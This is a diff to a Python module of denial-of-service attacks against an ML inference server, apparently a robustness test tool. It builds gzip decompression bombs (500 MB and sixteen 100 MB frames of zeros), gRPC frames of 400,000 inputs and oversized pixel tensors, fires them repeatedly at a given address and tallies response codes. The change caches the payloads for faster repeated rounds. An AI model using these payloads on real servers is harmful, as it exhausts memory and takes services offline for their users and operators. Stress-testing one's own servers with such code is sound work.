@@ -1,4 +1,4 @@
-"""Bodies that are small to send and large to read."""
+"""Bodies that are small to send and large to read; what takes long to make is kept for the attack's next round."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import json
 import struct
 from collections import Counter
 from collections.abc import Callable, Mapping
+from functools import cache, lru_cache
 
 import numpy as np
 
@@ -74,15 +75,21 @@ REQUESTS: Mapping[str, tuple[Callable[[], bytes], str]] = {
 }
 
 
+@cache
 def _bomb() -> bytes:
     return gzip.compress(bytes(500_000_000))
+
+
+@lru_cache(maxsize=1)
+def _made(make: Callable[[], bytes]) -> bytes:
+    return make()
 
 
 def send_body(name: str) -> Callable[[Address, int], Counter[str]]:
     """Sends the request of that name so many times, one after the other; counts the statuses."""
 
     def attack(address: Address, count: int) -> Counter[str]:
-        request = REQUESTS[name][0]()
+        request = _made(REQUESTS[name][0])
         return Counter(" ".join(ask(address, request)) for _ in range(count))
 
     return attack
@@ -105,8 +112,7 @@ def many_sizes(address: Address, count: int) -> Counter[str]:
 
 def many_inputs(address: Address, count: int) -> Counter[str]:
     """gRPC messages of 400,000 inputs, compressed so that they fit into what a stream may send at once."""
-    entries = b"".join(b"\x12\x09\x0a\x07%07d" % number for number in range(400_000))
-    return _call_each(address, _compressed_frame(gzip.compress(entries, 9)), count, framed=True)
+    return _call_each(address, _made(_inputs), count, framed=True)
 
 
 def gzip_bombs(address: Address, count: int) -> Counter[str]:
@@ -116,8 +122,8 @@ def gzip_bombs(address: Address, count: int) -> Counter[str]:
 
 def gzip_bombs_on_a_stream(address: Address, count: int) -> Counter[str]:
     """Streams of sixteen messages of 100 MB of zeros each, compressed: all of them would be 1.6 GB."""
-    frames = _compressed_frame(gzip.compress(bytes(100_000_000))) * 16
-    return _call_each(address, frames, count, framed=True, path="/inference.GRPCInferenceService/ModelStreamInfer")
+    path = "/inference.GRPCInferenceService/ModelStreamInfer"
+    return _call_each(address, _made(_bombs), count, framed=True, path=path)
 
 
 def two_values_for_all(address: Address, count: int) -> Counter[str]:
@@ -125,6 +131,15 @@ def two_values_for_all(address: Address, count: int) -> Counter[str]:
     request = _pixels(30_000_000)
     request.inputs["pixels"].int_val.extend([7, 8])
     return _call_each(address, request.SerializeToString(), count)
+
+
+def _inputs() -> bytes:
+    entries = b"".join(b"\x12\x09\x0a\x07%07d" % number for number in range(400_000))
+    return _compressed_frame(gzip.compress(entries, 9))
+
+
+def _bombs() -> bytes:
+    return _compressed_frame(gzip.compress(bytes(100_000_000))) * 16
 
 
 def _pixels(rows: int) -> PredictRequest:
@@ -176,10 +191,15 @@ def send_message(name: str) -> Callable[[Address, int], Counter[str]]:
     """Sends the message of that name so many times, compressed so that it fits into what a stream may send at once."""
 
     def attack(address: Address, count: int) -> Counter[str]:
-        content, path = MESSAGES[name][0](), MESSAGES[name][1]
-        return _call_each(address, _compressed_frame(gzip.compress(content)), count, framed=True, path=path)
+        make, path = MESSAGES[name]
+        return _call_each(address, _compressed(make), count, framed=True, path=path)
 
     return attack
+
+
+@lru_cache(maxsize=1)
+def _compressed(make: Callable[[], bytes]) -> bytes:
+    return _compressed_frame(gzip.compress(make()))
 
 
 def _compressed_frame(content: bytes) -> bytes:
